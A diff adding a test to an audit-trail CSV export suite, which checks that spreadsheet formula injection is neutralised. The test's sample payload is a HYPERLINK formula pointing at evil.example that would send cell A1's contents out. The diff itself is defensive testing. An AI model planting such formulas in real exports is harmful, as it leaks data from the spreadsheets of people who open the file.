@@ -71,4 +71,14 @@ describe.each(DIALECTS)('audit trail on %s', (dialect) => {
     expect(rows.find((r) => r.action === 'step.skip')?.message).toBe(AWKWARD_REASON);
     expect(auditCsv([])).toBe(`${AUDIT_CSV_COLUMNS.join(',')}\n`);
   });
+
+  it('writes a formula typed as a reason as text (issue 14: spreadsheet formula injection)', async () => {
+    const { failing } = await twoWorkflows();
+    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
+    const csv = auditCsv([...(await listAudit(db.prisma, failing.id)), { id: 99, at: new Date(0), workflowId: failing.id, stepKey: 'wipe', actor: '+actor', action: 'step.skip', fromStatus: null, toStatus: null, message: formula, error: '-1' }]);
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(rows.at(-1)).toMatchObject({ actor: "'+actor", message: `'${formula}`, error: "'-1" });
+    const cells = (parse(csv) as string[][]).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
 });
